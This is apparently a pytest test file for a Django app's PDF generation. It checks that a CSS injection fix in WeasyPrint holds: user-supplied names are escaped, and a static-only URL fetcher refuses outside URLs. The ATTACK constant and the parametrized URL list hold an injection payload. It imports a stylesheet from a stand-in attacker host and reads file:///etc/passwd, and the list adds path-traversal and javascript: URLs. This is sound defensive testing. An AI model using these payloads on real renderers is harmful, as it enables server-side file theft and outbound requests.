"""PDFs never fetch what a user wrote (issue 9, "Defects found"): the billing profile's sender
name used to be written into CSS ``content:``, where a newline ended the string and the injected
CSS made the server fetch an attacker's URL and embed a local file. Now user text is escaped
HTML in a running element, and WeasyPrint renders with a fetcher that allows only the app's
static files and ``data:`` URLs."""

from __future__ import annotations

import datetime
import io

import pytest
from django.conf import settings
from django.urls import reverse
from pypdf import PdfReader
from weasyprint import HTML

from billing.models import BillingProfile, Invoice
from placement import pdf
from placement.models import Meeting
from placement.pdf import StaticOnlyURLFetcher

from .billing.billing_builders import cost_key, invoice_for, pdf_text, run_period, worked_example

ATTACK = (
    'Dordrecht"\n} @import url(http://attacker.invalid/s.css); '
    "@page { @top-left { content: url(file:///etc/passwd) } }"
)


@pytest.fixture(autouse=True)
def fast_password_hashing(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def asked(monkeypatch) -> list[str]:
    """Every URL WeasyPrint asks the fetcher for while the test runs."""
    urls: list[str] = []
    original = StaticOnlyURLFetcher.fetch

    def spy(self, url, headers=None):
        urls.append(url)
        return original(self, url, headers)

    monkeypatch.setattr(StaticOnlyURLFetcher, "fetch", spy)
    return urls


def test_an_injected_sender_name_is_printed_literally_and_fetches_nothing(world, client_for, asked):
    worked_example(world)
    cost_key(world, "per_person", tariff="350.00")
    invoice = invoice_for(run_period(world), world.zwijndrecht)
    BillingProfile.for_region(world.drecht)
    BillingProfile.objects.filter(region=world.drecht).update(sender_name=ATTACK)

    response = client_for(world.finance).get(reverse("billing_invoice_pdf", args=[invoice.pk]))

    assert response.status_code == 200
    # Twice: in the page header (the running element) and in the sender block. Line breaks
    # in the narrow header do not matter: compare without whitespace.
    text = "".join(pdf_text(response).split())
    assert text.count("@importurl(http://attacker.invalid/s.css)") == 2
    assert text.count("content:url(file:///etc/passwd)") == 2
    assert not [url for url in asked if "attacker" in url or "passwd" in url]


def test_an_injected_region_name_is_printed_literally_on_the_agenda(world, client_for, asked):
    type(world.drecht).objects.filter(pk=world.drecht.pk).update(name=ATTACK[:60])
    meeting = Meeting.objects.create(
        region=world.drecht,
        date=datetime.date.today() + datetime.timedelta(days=7),
        place="Stadskantoor",
    )

    response = client_for(world.coordinator).get(reverse("meeting_agenda_pdf", args=[meeting.pk]))

    assert response.status_code == 200
    assert "@import url(http://attacker.invalid/s.css)" in pdf_text(response)
    assert not [url for url in asked if "attacker" in url]


def test_the_pdf_views_render_with_the_static_only_fetcher(world, client_for, monkeypatch):
    used = []
    original = HTML.__init__

    def record(self, *args, **kwargs):
        used.append(kwargs.get("url_fetcher"))
        original(self, *args, **kwargs)

    monkeypatch.setattr(HTML, "__init__", record)
    worked_example(world)
    cost_key(world, "per_person", tariff="350.00")
    invoice = invoice_for(run_period(world), world.zwijndrecht)

    client_for(world.finance).get(reverse("billing_invoice_pdf", args=[invoice.pk]))

    assert used and all(isinstance(fetcher, StaticOnlyURLFetcher) for fetcher in used)


def test_pdf_responses_are_not_cached(world, client_for):
    worked_example(world)
    cost_key(world, "per_person", tariff="350.00")
    invoice = invoice_for(run_period(world), world.zwijndrecht)

    response = client_for(world.finance).get(reverse("billing_invoice_pdf", args=[invoice.pk]))

    assert response["Cache-Control"] == "no-store"
    assert Invoice.objects.filter(pk=invoice.pk).exists()


# --- The fetcher itself ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://attacker.invalid/x.css",
        "https://attacker.invalid/x.png",
        "ftp://attacker.invalid/x",
        "file:///etc/passwd",
        "file://attacker.invalid/static/css/app.css",
        f"file://{settings.BASE_DIR}/config/settings.py",
        f"file://{settings.BASE_DIR}/static/../config/settings.py",
        f"file://{settings.BASE_DIR}/static/css/missing.css",
        "javascript:alert(1)",
    ],
)
def test_the_fetcher_refuses_everything_but_static_files_and_data(url):
    fetcher = StaticOnlyURLFetcher()

    with pytest.raises(ValueError):
        fetcher.fetch(url)
    assert fetcher.refused == [url]


def test_the_fetcher_reads_static_files_and_data_urls():
    fetcher = StaticOnlyURLFetcher()

    static = fetcher.fetch((settings.BASE_DIR / "static" / "css" / "app.css").as_uri())
    data = fetcher.fetch("data:text/plain;base64,aGFsbG8=")

    assert b"Placement desk" in static.read()
    assert data.read() == b"hallo"
    assert fetcher.refused == []


def test_a_document_cannot_attach_or_show_a_file_outside_static(tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-BSN-123456782")
    html = (
        f'<link rel="attachment" href="{secret.as_uri()}">'
        f'<img src="{secret.as_uri()}"><img src="http://attacker.invalid/p.png">'
        "<p>Factuur</p>"
    )
    fetcher = StaticOnlyURLFetcher()

    document = HTML(string=html, base_url=pdf.static_roots()[0].as_uri() + "/", url_fetcher=fetcher)
    reader = PdfReader(io.BytesIO(document.write_pdf()))

    assert not reader.attachments
    assert secret.as_uri() in fetcher.refused
    assert "http://attacker.invalid/p.png" in fetcher.refused
